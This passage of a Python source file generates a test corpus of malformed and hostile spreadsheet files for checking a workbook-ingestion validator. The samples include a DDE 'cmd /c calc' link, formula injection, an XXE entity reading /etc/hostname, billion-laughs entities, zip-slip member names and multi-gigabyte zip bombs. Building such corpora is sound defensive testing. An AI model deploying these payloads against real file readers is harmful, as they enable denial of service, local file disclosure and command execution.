    damaged = Member("xl/worksheets/sheet2.xml", raw=bytes(raw), crc=zlib.crc32(sheet), size=len(sheet))
    return zip_parts(parts, [damaged])


BIFF_STRINGS = ("Oficina", "Código", "Indicador", "Meta", "Ejecutado", "OF01", *[s for p in INDICATORS for s in p])


def make_c05() -> bytes:
    """A BIFF8 workbook: a globals substream (BOF, CODEPAGE, BOUNDSHEET, SST, EOF) and one sheet (BOF, DIMENSIONS,
    LABELSST and NUMBER cells, EOF) in the Workbook stream of a compound file."""
    def rec(rid: int, payload: bytes = b"") -> bytes:
        return struct.pack("<HH", rid, len(payload)) + payload

    def bof(kind: int) -> bytes:  # BIFF8, build 3515, year 1996
        return rec(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 0x06))

    rows: list[list[str | float]] = [["Oficina", "Código", "Indicador", "Meta", "Ejecutado"]]
    for i, (code, label) in enumerate(INDICATORS):
        rows.append(["OF01", code, label, float(TARGETS["OF01"][i]), float(OF01_INPUT[("OF01", i)][0])])
    sheet = bof(0x0010) + rec(0x0200, struct.pack("<IIHHH", 0, len(rows), 0, len(rows[0]), 0))
    for r, row in enumerate(rows):
        for c, v in enumerate(row):
            if isinstance(v, str):
                sheet += rec(0x00FD, struct.pack("<HHHI", r, c, 0, BIFF_STRINGS.index(v)))
            else:
                sheet += rec(0x0203, struct.pack("<HHHd", r, c, 0, v))
    sheet += rec(0x000A)
    sst = struct.pack("<II", len(BIFF_STRINGS), len(BIFF_STRINGS)) + b"".join(
        struct.pack("<HB", len(s), 1) + s.encode("utf-16-le") for s in BIFF_STRINGS)
    name = "Datos"
    head = bof(0x0005) + rec(0x0042, struct.pack("<H", 1200))
    globals_len = len(head) + 4 + 8 + len(name) * 2 + len(rec(0x00FC, sst)) + len(rec(0x000A))
    head += rec(0x0085, struct.pack("<IBBBB", globals_len, 0, 0, len(name), 1) + name.encode("utf-16-le"))
    stream = head + rec(0x00FC, sst) + rec(0x000A) + sheet
    # padded to 4096 bytes as Excel and xlwt do, so the stream lives in regular sectors, not the mini stream
    return write_compound_file({"Workbook": stream.ljust(4096, b"\x00")})


ODS_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')


def make_c06() -> bytes:
    def cell(v: str | int | float) -> str:
        if isinstance(v, str):
            return f'<table:table-cell office:value-type="string"><text:p>{_x(v)}</text:p></table:table-cell>'
        return (f'<table:table-cell office:value-type="float" office:value="{v}"><text:p>{v}</text:p>'
                "</table:table-cell>")

    rows: list[list[str | int | float]] = [list(HEADERS[:5])]
    rows += [["OF01", code, label, TARGETS["OF01"][i], OF01_INPUT[("OF01", i)][0]]
             for i, (code, label) in enumerate(INDICATORS)]
    table = "".join("<table:table-row>" + "".join(cell(v) for v in row) + "</table:table-row>" for row in rows)
    content = ('<?xml version="1.0" encoding="UTF-8"?>\n'
               f'<office:document-content {ODS_NS} office:version="1.2"><office:body><office:spreadsheet>'
               f'<table:table table:name="Datos">{table}</table:table></office:spreadsheet></office:body>'
               "</office:document-content>")
    mime = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
                f'manifest:media-type="{mime}"/><manifest:file-entry manifest:full-path="content.xml" '
                'manifest:media-type="text/xml"/></manifest:manifest>')
    # OpenDocument wants the mimetype first and stored, so that the first bytes name the format
    return zip_bytes([Member("mimetype", mime.encode(), stored=True),
                      Member("META-INF/manifest.xml", manifest.encode()), Member("content.xml", content.encode())])


def make_c11() -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(xlsx(b02()))).encrypt("zedxl", out)
    return out.getvalue()


def make_c13() -> bytes:
    parts = render(b02())
    del parts["xl/workbook.xml"]
    return zip_parts(parts)


def make_c14() -> bytes:
    parts = render(b02())
    sheet = parts["xl/worksheets/sheet2.xml"]
    parts["xl/worksheets/sheet2.xml"] = sheet[: sheet.index(b" top=") + len(b" top=")]
    return zip_parts(parts)


def make_c15() -> bytes:
    parts = render(b02())
    forged = parts["xl/worksheets/sheet2.xml"].replace(b"<v>1150</v>", b"<v>9999</v>")
    return zip_parts(parts, extra=[Member("xl/worksheets/sheet2.xml", forged)])


def with_member(name: str) -> Callable[[], bytes]:
    def make() -> bytes:
        return zip_parts(render(b02()), extra=[Member(name, b'<?xml version="1.0"?><evil>zedxl corpus</evil>')])
    return make


STRICT = (  # transitional -> ISO/IEC 29500 Strict namespaces (longest first: they share prefixes)
    (REL + "/extended-properties", "http://purl.oclc.org/ooxml/officeDocument/relationships/extendedProperties"),
    (REL + "/custom-properties", "http://purl.oclc.org/ooxml/officeDocument/relationships/customProperties"),
    (MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main"),
    (REL, "http://purl.oclc.org/ooxml/officeDocument/relationships"),
    ("http://schemas.openxmlformats.org/officeDocument/2006/extended-properties",
     "http://purl.oclc.org/ooxml/officeDocument/extendedProperties"),
    ("http://schemas.openxmlformats.org/officeDocument/2006/custom-properties",
     "http://purl.oclc.org/ooxml/officeDocument/customProperties"),
    ("http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes",
     "http://purl.oclc.org/ooxml/officeDocument/docPropsVTypes"),
)


def make_c19() -> bytes:
    parts = render(b02())
    for name, data in parts.items():
        text = data.decode()
        for old, new in STRICT:
            text = text.replace(old, new)
        parts[name] = text.encode()
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"<workbook ", b'<workbook conformance="strict" ', 1)
    return zip_parts(parts)


def make_c20() -> bytes:
    """An Excel binary workbook (BIFF12 records in the parts of an OOXML package): workbook, sheet, shared strings."""
    def varint(n: int) -> bytes:
        out = bytearray()
        while True:
            out.append((n & 0x7F) | (0x80 if n > 0x7F else 0))
            n >>= 7
            if not n:
                return bytes(out)

    def rec(rt: int, payload: bytes = b"") -> bytes:
        return varint(rt) + varint(len(payload)) + payload

    def wide(s: str) -> bytes:
        return struct.pack("<I", len(s)) + s.encode("utf-16-le")

    strings = ["Oficina", "Ejecutado", "OF01"]
    workbook = (rec(0x83) + rec(0x8F) + rec(0x9C, struct.pack("<II", 0, 1) + wide("rId1") + wide("Datos"))
                + rec(0x90) + rec(0x84))  # BeginBook, BeginBundleShs, BundleSh, EndBundleShs, EndBook
    sheet = rec(0x81) + rec(0x94, struct.pack("<4I", 0, 1, 0, 1)) + rec(0x91)  # BeginSheet, WsDim, BeginSheetData
    sheet += rec(0x00, struct.pack("<IIHBBBI", 0, 0, 300, 0, 0, 0, 0))  # RowHdr
    sheet += rec(0x07, struct.pack("<III", 0, 0, 0)) + rec(0x07, struct.pack("<III", 1, 0, 1))  # CellIsst
    sheet += rec(0x00, struct.pack("<IIHBBBI", 1, 0, 300, 0, 0, 0, 0))
    sheet += rec(0x07, struct.pack("<III", 0, 0, 2)) + rec(0x05, struct.pack("<IId", 1, 0, 1150.0))  # CellReal
    sheet += rec(0x92) + rec(0x82)  # EndSheetData, EndSheet
    sst = rec(0x9F, struct.pack("<II", 3, 3)) + b"".join(rec(0x13, b"\x00" + wide(s)) for s in strings) + rec(0xA0)
    ct = content_types([("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
                        ("xl/worksheets/sheet1.bin", "application/vnd.ms-excel.worksheet"),
                        ("xl/sharedStrings.bin", "application/vnd.ms-excel.sharedStrings"),
                        ("docProps/core.xml", CT_CORE), ("docProps/app.xml", CT_APP)])
    return zip_bytes([
        Member("[Content_Types].xml", ct.encode()),
        Member("_rels/.rels", rels_xml([Rel("rId1", "officeDocument", "xl/workbook.bin"),
                                         Rel("rId2", f"{PKG_REL}/metadata/core-properties", "docProps/core.xml"),
                                         Rel("rId3", "extended-properties", "docProps/app.xml")]).encode()),
        Member("docProps/core.xml", TEMPLATE_PARTS["docProps/core.xml"].encode()),
        Member("docProps/app.xml", TEMPLATE_PARTS["docProps/app.xml"].encode()),
        Member("xl/workbook.bin", workbook),
        Member("xl/_rels/workbook.bin.rels", rels_xml([Rel("rId1", "worksheet", "worksheets/sheet1.bin"),
                                                       Rel("rId2", "sharedStrings", "sharedStrings.bin")]).encode()),
        Member("xl/worksheets/sheet1.bin", sheet),
        Member("xl/sharedStrings.bin", sst),
    ])


def make_owner_file() -> bytes:
    """Excel's owner file: the user name as a length byte and 53 bytes of text, then as UTF-16 (54 characters)."""
    user = "Ana Perez"
    return (bytes([len(user)]) + user.encode("latin-1").ljust(53, b" ") + struct.pack("<H", len(user))
            + user.ljust(54).encode("utf-16-le") + b"\x00")


LOCK_TEXT = ",Nombre Apellido,host,02.04.2024 09:00,file:///C:/Users/x/AppData/Roaming/LibreOffice/4;"


# --------------------------------------------------------------------------------------------------------------------
# Denial of service (D)


def cells_sheet(rows: int, per_row: int = 100) -> Member:
    """A data sheet of ``rows`` rows of ``per_row`` cells '<c><v>1</v></c>' with no references, deflated as
    repeated blocks of 1,000 rows."""
    row = b"<row>" + b"<c><v>1</v></c>" * per_row + b"</row>"
    head = DECL.encode() + f'<worksheet xmlns="{MAIN}"><sheetData>'.encode()
    return repeated("xl/worksheets/sheet2.xml", head, row * 1000, rows // 1000, b"</sheetData></worksheet>")


def cells_book(rows: int) -> bytes:
    book = b02()
    datos = book.sheet("Datos")
    datos.cells = {}  # its strings leave the shared string table, as when Excel saves such a sheet
    return zip_parts(render(book), [cells_sheet(rows)])


def make_d02() -> bytes:
    parts = render(b02())
    workbook = parts["xl/workbook.xml"]
    cut = workbook.rindex(b"</workbook>")
    return zip_parts(parts, [repeated("xl/workbook.xml", workbook[:cut], b" " * MiB, 1024, workbook[cut:])])


def make_d03() -> bytes:
    # the full 4096 MiB of zeros: 4096 identical flushed blocks of 1 MiB (about 4 MB on disk)
    return zip_parts(render(b02()), extra=[repeated("xl/media/image1.png", b"", bytes(MiB), 4096)])


def make_d04() -> bytes:
    book = b02()
    book.sheet("Datos").dimension = "A1:XFD1048576"
    return xlsx(book)


def make_d05() -> bytes:
    parts = render(b02())
    sheet = parts["xl/worksheets/sheet2.xml"]
    # headers and CRC describe the real 2,882-byte sheet; its deflate stream goes on with 1 GiB of spaces after it
    return zip_parts(parts, [repeated("xl/worksheets/sheet2.xml", sheet, b" " * MiB, 1024, declared=sheet)])


def make_d06() -> bytes:
    parts = render(b02())
    sheet = parts["xl/worksheets/sheet2.xml"]
    return zip_parts(parts, [Member("xl/worksheets/sheet2.xml", raw=deflate(sheet), crc=zlib.crc32(sheet),
                                    size=0xFFFF0000)])


def make_d07() -> bytes:
    book = b02()
    book.sheets += [Sheet(f"Hoja{n}") for n in range(len(book.sheets) + 1, 5001)]
    return xlsx(book)


def make_d08() -> bytes:
    parts = render(b02())
    sst = parts["xl/sharedStrings.xml"].decode()
    extra = 200_000
    count = sst.count("<si>") + extra
    sst = re.sub(r'count="\d+" uniqueCount="\d+"', f'count="{count}" uniqueCount="{count}"', sst, count=1)
    items = "".join(f"<si><t>Texto de relleno {n:06d}</t></si>" for n in range(extra))
    parts["xl/sharedStrings.xml"] = sst.replace("</sst>", items + "</sst>").encode()
    return zip_parts(parts)


def make_d09() -> bytes:
    book = b02()
    book.sheet("Datos").cells["XFD1048576"] = Cell(1)
    return xlsx(book)


# --------------------------------------------------------------------------------------------------------------------
# Semantic mutations of the template (S)


def make_s01() -> bytes:
    return xlsx(template(version="1.0"))


def make_s02() -> bytes:
    cells: dict[str, Cell] = {f"{col_name(c)}1": Cell(h) for c, h in enumerate(HEADERS, 1)}
    for r, (i, (code, label)) in enumerate(enumerate(INDICATORS), 2):
        executed, note = OF01_INPUT[("OF01", i)]
        target = TARGETS["OF01"][i]
        cells.update({f"A{r}": Cell("OF01"), f"B{r}": Cell(code), f"C{r}": Cell(label), f"D{r}": Cell(target),
                      f"E{r}": Cell(executed), f"F{r}": Cell(round(executed / target, 12)),
                      f"G{r}": Cell(CUTOFF, DATE_STYLE)})
        if note:
            cells[f"H{r}"] = Cell(note)
    return xlsx(Book([Sheet("Hoja1", cells)]))


def make_s03() -> bytes:
    return xlsx(template(data_name="Datos (2)"))


def make_s04() -> bytes:
    book = b02()
    cells: dict[str, Cell] = {f"{col_name(c)}1": Cell(h) for c, h in enumerate(HEADERS, 1)}
    for r, line in enumerate(lines(), 2):
        assert isinstance(line, Line)
        code, label = INDICATORS[line.indicator]
        percent = line.indicator == 2
        cells.update({f"A{r}": Cell(line.office), f"B{r}": Cell(code), f"C{r}": Cell(label),
                      f"D{r}": Cell(TARGETS[line.office][line.indicator], PERCENT if percent else None)})
        if line.executed is not None:
            cells[f"E{r}"] = Cell(line.executed, IN_PERCENT if percent else IN_NUMBER)
            cells[f"G{r}"] = Cell(CUTOFF, IN_DATE)
        if line.note:
            cells[f"H{r}"] = Cell(line.note, IN_TEXT)
    cells["C8"] = Cell("Total", BOLD)
    book.sheets[1] = Sheet("Datos", cells)
    book.names[:2] = [("ZX_DATA", "#REF!"), ("ZX_OFFICE", "#REF!")]
    return xlsx(book)


def make_s05() -> bytes:
    book = b02()
    instructions, datos, meta = book.sheets
    book.sheets = [datos, meta, instructions]
    book.active = 0
    return xlsx(book)


def make_s06() -> bytes:
    rows = lines()
    rows.insert(1, "(fila agregada por la oficina)")
    return xlsx(template(rows=rows))


def make_s07() -> bytes:
    rows = [line for line in lines() if not (isinstance(line, Line) and (line.office, line.indicator) == ("OF01", 1))]
    return xlsx(template(rows=rows))


def make_s08() -> bytes:
    book = b02()
    datos = book.sheet("Datos")
    datos.cells["E6"] = Cell(1512, IN_NUMBER)
    del datos.cells["E7"], datos.cells["H8"]
    datos.merged = ["E6:E7", "H6:H8"]
    return xlsx(book)


def cells_changed(changes: Mapping[str, Cell | None], book: Book | None = None) -> Book:
    """B02 (or ``book``) with cells of Datos replaced (None deletes), cached values left as they were."""
    book = book or b02()
    cells = book.sheet("Datos").cells
    for ref, cell in changes.items():
        if cell is None:
            cells.pop(ref, None)
        else:
            cells[ref] = cell
    return book


def make_s09() -> bytes:
    return xlsx(cells_changed({"E6": Cell("1150", IN_NUMBER), "E7": Cell(" 362 ", IN_NUMBER, "inlineStr"),
                               "E8": Cell("0.715", IN_PERCENT), "E12": Cell(0, f=_total("E"))}))


def _total(col: str) -> str:
    return f'SUMIF(C6:C11,"<>Cobertura (%)",{col}6:{col}11)'


def _ratio(r: int) -> str:
    return f'IF(D{r}=0,"",E{r}/D{r})'


def make_s10() -> bytes:
    changes: dict[str, Cell | None] = {"E6": Cell("1.150,5", IN_NUMBER), "E7": Cell("362,0", IN_NUMBER),
                                       "E8": Cell("71,5%", IN_NUMBER), "E12": Cell(0, f=_total("E"))}
    for r in (6, 7, 8):
        changes[f"F{r}"] = Cell("#VALUE!", PERCENT, "e", _ratio(r))
    return xlsx(cells_changed(changes))


def make_s11() -> bytes:
    return xlsx(cells_changed({"E8": Cell(71.5, IN_NUMBER), "F8": Cell(89.375, PERCENT, f=_ratio(8))}))


def make_s12() -> bytes:
    return xlsx(cells_changed({"E6": Cell(-1150, IN_NUMBER), "E7": Cell(3620000000, IN_NUMBER),
                               "E8": Cell(1e308, IN_NUMBER)}))


def make_s12b() -> bytes:
    return xlsx(cells_changed({"E6": Cell(Lit("NaN"), IN_NUMBER), "E7": Cell(Lit("INF"), IN_NUMBER),
                               "E8": Cell(Lit("-1e999"), IN_NUMBER)}))


def make_s13() -> bytes:
    return xlsx(cells_changed({"E6": Cell(1150, DATE_STYLE), "G6": Cell(CUTOFF), "G7": Cell("31/03/2024", IN_TEXT),
                               "G8": Cell("03/31/2024", IN_TEXT)}))


def make_s14() -> bytes:
    book = cells_changed({f"G{r}": Cell(CUTOFF - 1462, IN_DATE) for r in (6, 7, 8)})  # 1904 serials are 1,462 less
    book.date1904 = True
    return xlsx(book)


def make_s15() -> bytes:
    changes: dict[str, Cell | None] = {f"F{r}": Cell(0.99, PERCENT) for r in (6, 7, 8)}
    changes["E12"] = Cell(5000)
    return xlsx(cells_changed(changes))


def make_s16() -> bytes:
    book = b02()
    for cell in book.sheet("Datos").cells.values():
        if cell.f is not None:
            cell.v = None
    return xlsx(book)


def make_s17() -> bytes:
    book = cells_changed({"F6": Cell(0.5, PERCENT, f=_ratio(6))})
    book.manual_calc = True
    return xlsx(book)


def make_s18() -> bytes:
    return xlsx(cells_changed({"E6": Cell("#DIV/0!", IN_NUMBER, "e", "1150/0"), "E7": Cell("#N/A", IN_NUMBER, "e"),
                               "F8": Cell("#REF!", PERCENT, "e", "#REF!/D8")}))


def make_s19() -> bytes:
    book = cells_changed({"D6": Cell(1000), "E9": Cell(999, IN_NUMBER), "H9": Cell("corregido por OF01", IN_TEXT)})
    book.sheet("Datos").protected = False
    return xlsx(book)


def make_s20(executed: tuple[int | float, ...], note: str) -> Callable[[], bytes]:
    def make() -> bytes:
        inputs = {("OF01", i): (v, note if i == 0 else None) for i, v in enumerate(executed)}
        return xlsx(template(rows=lines(inputs)))
    return make


def make_s22() -> bytes:
    return xlsx(cells_changed({"H6": Cell("Retraso_x0007_ en_x000B_ contratación_x001B_", IN_TEXT)}))


def make_s23() -> bytes:
    return xlsx(cells_changed({"H6": Cell(("Texto muy largo. " * 2400)[:40000], IN_TEXT)}))


def make_s24() -> bytes:
    book = cells_changed({"A13": Cell("OF01"), "B13": Cell("IND-99"), "C13": Cell("Personas atendidas (extra)"),
                          "E13": Cell(50000)})
    book.sheet("Datos").hidden_rows.add(13)
    book.sheets.append(Sheet("Hoja2", {"A1": Cell("OF01"), "E1": Cell(50000)}, state="veryHidden"))
    return xlsx(book)


def make_s25() -> bytes:
    return xlsx(cells_changed({"E1048577": Cell(1), "XFE6": Cell(2)}))


def make_s26() -> bytes:
    return xlsx(cells_changed({"E6": Cell("1", IN_NUMBER, "b"), "E7": Cell("2024-03-31T00:00:00", IN_NUMBER, "d"),
                               "E8": Cell("0.715", IN_PERCENT, "inlineStr")}))


# --------------------------------------------------------------------------------------------------------------------
# XML attacks (X): a one-sheet workbook with one hostile part

LOL = '<!DOCTYPE {root} [<!ENTITY lol0 "lol">' + "".join(
    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)) + "]>"
XXE = '<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
SMALL_WORKBOOK = (f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets><sheet name="Datos" sheetId="1" r:id="rId1"/>'
                  "</sheets>{names}</workbook>")


def x_book(*, sst: str | None = None, workbook: str | None = None) -> Callable[[], bytes]:
    def make() -> bytes:
        parts = render(Book([Sheet("Datos", {"A1": Cell("x")})]))
        if sst is not None:
            parts["xl/sharedStrings.xml"] = (DECL + sst).encode()
        if workbook is not None:
            parts["xl/workbook.xml"] = (DECL + workbook).encode()
        return zip_parts(parts)
    return make


SST_ONE = f'<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>{{text}}</t></si></sst>'


# --------------------------------------------------------------------------------------------------------------------
# The corpus: one entry per file


@dataclass(frozen=True)
class Entry:
    name: str
    category: str
    action: str
    what: str
    make: Callable[[], bytes]


def _bytes(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def _book(fn: Callable[[], Book]) -> Callable[[], bytes]:
    return lambda: xlsx(fn())


B02 = "B02_ok_filled_OF01.xlsx"

ENTRIES: tuple[Entry, ...] = (
    Entry("A01_macro_workbook_open.xlsm", "active", "accept data read-only but flag/quarantine; never open with Excel "
          "automation (xlwings) un-sandboxed; never copy vbaProject into master",
          "B02 as .xlsm with a real vbaProject.bin written by zedxl.vba (ThisWorkbook.Workbook_Open: inert MsgBox; "
          "comments mention Shell).", make_a01),
    Entry("A03_external_link.xlsx", "active", "warn/reject: value comes from another file (cached, may be stale); "
          "never copy link into master", "E6 is ='[1]Hoja1'!A1 pointing to \\\\fileserver\\private\\"
          "OF01_borrador.xlsx (cached 1150).", make_a03),
    Entry("A04_dde_link_cmd.xlsx", "active", "reject: DDE link", "E7 formula bound to a DDE link "
          "(xl/externalLinks/externalLink1.xml <ddeLink>) service 'cmd' topic '/c calc' (the =cmd|'/c calc'!A0 "
          "pattern).", make_a04),
    Entry("A05_formula_injection_text.xlsx", "active", "accept as text, but neutralise before writing to master/CSV "
          "('-prefix or data_type='s')", "Justification cells H6:H14 hold TEXT starting with = + - @ TAB, CR "
          "(stored raw, so XML parsers return it as LF), full-width ＝ (HYPERLINK, cmd DDE, ...).", make_a05),
    Entry("A06_live_formulas_in_inputs.xlsx", "active", "warn/reject: formulas in input cells; take cached value only, "
          "never copy formula", "Real formula cells in input columns: HYPERLINK to an external URL, WEBSERVICE, "
          "INDIRECT (cached values present).", make_a06),
    Entry("A07_embedded_ole_object.xlsx", "active", "warn/quarantine: embedded object (not copied by openpyxl)",
          "Unreferenced xl/embeddings/oleObject1.bin (OLE Package stream naming payload.exe).", make_a07),
    Entry("A08_hyperlinks_file_js.xlsx", "active", "strip hyperlinks when copying",
          "Cell hyperlinks to file:///...calc.exe and javascript:.", make_a08),
    Entry("A09_data_connection_odbc_web.xlsx", "active", "reject: data connection (refreshOnLoad runs a query or "
          "fetches a URL when Excel opens it); never copy it into master", "B02 plus xl/connections.xml (content type "
          "and workbook relationship in place): an ODBC connection with a SQL command and a web query, both "
          "refreshOnLoad.", make_a09),
    Entry("B01_ok_template_blank_OF01.xlsx", "baseline", "accept (nothing filled -> warn 'empty return')",
          "Reference template as sent to office OF01 (blank inputs, formulas with cached values, hidden _meta sheet, "
          "v2.0).", make_b01),
    Entry(B02, "baseline", "accept", "Correctly filled return from OF01 (E6:E8 = 1150, 362, 0.715; dates 2024-03-31; "
          "justifications).", _book(b02)),
    Entry("~$B02_ok_filled_OF01.xlsx", "container", "skip silently (log): Excel owner/lock file; warn that the "
          "original may be open/mid-edit", "165-byte owner file (length byte + user name, then the name in UTF-16, "
          "as Excel leaves next to an open workbook); matches *.xlsx globs.", make_owner_file),
    Entry("B03_ok_filled_OF02.xlsx", "baseline", "accept", "Correctly filled return from OF02 (rows 9-11).", make_b03),
    Entry("C01_zero_bytes.xlsx", "container", "reject: empty file", "0-byte file (failed download / save "
          "interrupted).", _bytes(b"")),
    Entry("C02_truncated_half.xlsx", "container", "reject: truncated, ask to resend", "B02 cut at 50% (partial copy "
          "to shared folder, mail size limit, file still being written).", make_c02),
    Entry("C03_crc_corrupt_datasheet.xlsx", "container", "reject: corrupt (CRC) naming the part", "B02 with one bit "
          "flipped inside the compressed data sheet: still inflates, only the CRC-32 tells (bit rot / bad "
          "transfer).", make_c03),
    Entry("C05_xls_biff8_renamed.xlsx", "container", "reject (or convert explicitly): legacy .xls", "Real BIFF8 .xls "
          "(compound file, Workbook stream with BOF, BOUNDSHEET, SST, NUMBER/LABELSST cells) renamed to .xlsx - "
          "'saved as Excel 97-2003'.", make_c05),
    Entry("C06_ods_renamed.xlsx", "container", "reject: not OOXML (LibreOffice .ods)", "OpenDocument spreadsheet "
          "(mimetype stored first, 1 sheet) renamed .xlsx.", make_c06),
    Entry("C07_csv_renamed.xlsx", "container", "reject: text file", "Semicolon CSV with decimal commas renamed .xlsx.",
          _bytes(CSV_TEXT.encode())),
    Entry("C08_html_renamed.xlsx", "container", "reject: HTML export", "HTML table ('export to Excel' from a web "
          "system) named .xlsx.", _bytes(HTML_TEXT.encode())),
    Entry("C11_encrypted_password_zedxl.xlsx", "container", "reject: 'file is password-protected (encrypted), resend "
          "without password'", "B02 encrypted with password 'zedxl' by msoffcrypto (ECMA-376 Agile; OLE2 container, "
          "not a zip; random salts, so only this file's bytes change between builds).", make_c11),
    Entry("C13_missing_workbook_part.xlsx", "container", "reject: corrupt package", "Valid zip, xl/workbook.xml "
          "removed.", make_c13),
    Entry("C14_malformed_sheet_xml.xlsx", "container", "reject: corrupt part, naming it", "Data sheet XML truncated "
          "(not well-formed) inside an intact zip.", make_c14),
    Entry("C15_duplicate_member_sheet2.xlsx", "container", "reject: two members with one name (readers disagree on "
          "which one counts)", "B02 plus a second xl/worksheets/sheet2.xml entry (E6 = 9999) after the real one.",
          make_c15),
    Entry("C16_path_traversal_dotdot.xlsx", "container", "reject: unsafe member name; never extract to disk",
          "B02 plus a member named ../../evil.xml (zip slip).", with_member("../../evil.xml")),
    Entry("C17_path_traversal_absolute.xlsx", "container", "reject: unsafe member name; never extract to disk",
          "B02 plus a member named /etc/evil.xml (absolute path).", with_member("/etc/evil.xml")),
    Entry("C18_path_traversal_drive.xlsx", "container", "reject: unsafe member name; never extract to disk",
          "B02 plus a member named C:\\evil.xml (drive letter and backslash).", with_member("C:\\evil.xml")),
    Entry("C19_strict_ooxml.xlsx", "container", "reject (or convert explicitly): Strict Open XML, which openpyxl "
          "reads as empty", "B02 saved as ISO 29500 Strict: every part in the http://purl.oclc.org/ooxml/ namespaces, "
          "conformance='strict'.", make_c19),
    Entry("C20_xlsb_renamed.xlsx", "container", "reject: binary workbook (.xlsb)", "Real minimal .xlsb (BIFF12 "
          "workbook.bin, sheet1.bin, sharedStrings.bin in an OOXML package) renamed .xlsx.", make_c20),
    Entry("C21_text_renamed.xlsx", "container", "reject: text file", "A plain-text note (UTF-8 prose, no table) "
          "renamed .xlsx.", _bytes(PLAIN_TEXT.encode())),
    Entry("D00_calibration_1000k_cells.xlsx", "dos", "accept or reject by size policy (calibration)", "Same "
          "construction as D01 with 1,000,000 cells (10,000 rows of 100): measures per-cell time/memory of each "
          "reader.", lambda: cells_book(10_000)),
    Entry("D01_zipbomb_20M_cells.xlsx", "dos", "reject before parsing: uncompressed size / cell count over limit",
          "Data sheet holds 20,000,000 cells '<c><v>1</v></c>' with no r= attributes (~288 MiB XML) in a small file.",
          lambda: cells_book(200_000)),
    Entry("D02_zipbomb_1024MiB_whitespace_workbook_xml.xlsx", "dos", "reject before parsing: part uncompressed size "
          "over limit", "xl/workbook.xml padded with 1024 MiB of spaces (read whole into memory by zipfile.read()).",
          make_d02),
    Entry("D03_zipbomb_4096MiB_unreferenced_member.xlsx", "dos", "reject: total uncompressed size / ratio over limit "
          "(even if unreferenced)", "B02 plus an unreferenced xl/media/image1.png of 4096 MiB of zeros, full size "
          "(ratio ~1000:1; its deflate stream is one flushed 1 MiB block repeated 4096 times); harmless to readers "
          "that never open it, fatal to scanners that read every member.", make_d03),
    Entry("D04_lying_dimension_XFD1048576.xlsx", "dos", "accept, but never trust <dimension>; bound loops by real "
          "cells", "B02 whose data sheet declares <dimension ref='A1:XFD1048576'/> (17 billion cells) while holding "
          "~60.", make_d04),
    Entry("D05_lying_size_small_declared.xlsx", "dos", "reject: the deflate stream goes on past the declared size; "
          "never read a member by its stream, only up to the declared size", "B02 whose data sheet's local and "
          "central headers declare its real 2,882 bytes and CRC, while the deflate stream continues with 1 GiB of "
          "spaces after </worksheet> (zipfile stops at the declared size and sees a clean part; python-calamine "
          "raises 'File is larger than its declared uncompressed size').", make_d05),
    Entry("D06_lying_size_huge_declared.xlsx", "dos", "reject before reading: declared size over limit", "B02 whose "
          "data sheet headers declare 4,294,901,760 bytes (0xFFFF0000) for its 2,882-byte XML.", make_d06),
    Entry("D07_5000_sheets.xlsx", "dos", "reject: too many sheets / zip members", "B02 plus 4,997 empty sheets "
          "Hoja4..Hoja5000, each its own part (5,000 sheets, 5,009 zip members).", make_d07),
    Entry("D08_huge_shared_strings.xlsx", "dos", "accept or reject by size policy; never load every string eagerly",
          "B02 whose sharedStrings.xml also holds 200,000 unused distinct strings (~7.8 MB of XML, ~0.5 MB on disk).",
          make_d08),
    Entry("D09_far_corner_cell_XFD1048576.xlsx", "dos", "reject: used range too large (python-calamine allocates it "
          "densely and aborts)", "B02 plus a real value cell at XFD1048576 in the data sheet (dimension "
          "A1:XFD1048576 is true).", make_d09),
    Entry("S01_wrong_template_version.xlsx", "template", "reject: 'template v1.0, expected v2.0'", "_meta!B2 and "
          "custom property say template_version 1.0.", make_s01),
    Entry("S02_no_template_marker_pasted_values.xlsx", "template", "reject: not our template", "Data copy-pasted "
          "(values) into a new workbook 'Hoja1': no _meta, no names, no properties.", make_s02),
    Entry("S03_sheet_renamed.xlsx", "template", "reject (or resolve via defined name ZX_DATA) and say which sheet is "
          "missing", "Data sheet renamed 'Datos (2)' (Excel updated defined names).", make_s03),
    Entry("S04_data_sheet_recreated.xlsx", "template", "reject: layout differs (header row 1 instead of 5); names are "
          "#REF!", "Original 'Datos' deleted and a new 'Datos' typed by hand (header in row 1, values only); defined "
          "names now #REF!.", make_s04),
    Entry("S05_sheets_reordered.xlsx", "template", "accept if sheets are addressed by name; reject if by index",
          "Sheet order Datos, _meta (hidden), Instrucciones (was Instrucciones, Datos, _meta).", make_s05),
    Entry("S06_row_inserted.xlsx", "template", "reject or re-map by key (Oficina+Código), never by row number",
          "Row inserted at 7 (between IND-01 and IND-02, with a note): everything below shifts; formulas/names "
          "shifted as Excel does.", make_s06),
    Entry("S07_row_deleted.xlsx", "template", "reject: indicator OF01/IND-02 missing", "Row of OF01/IND-02 deleted; "
          "rows below shift up.", make_s07),
    Entry("S08_merged_cells_over_inputs.xlsx", "template", "reject: merged input cells (E6:E7 holds one value for two "
          "indicators)", "E6:E7 merged with 1512 (=1150+362, E7 now empty) and H6:H8 merged.", make_s08),
    Entry("S09_numbers_stored_as_text.xlsx", "values", "coerce with warning (strip, parse) or reject naming the cell",
          "E6 '1150' (shared string), E7 ' 362 ' (inline, spaces), E8 '0.715' text; Excel's green-triangle case. "
          "Total cached 0.", make_s09),
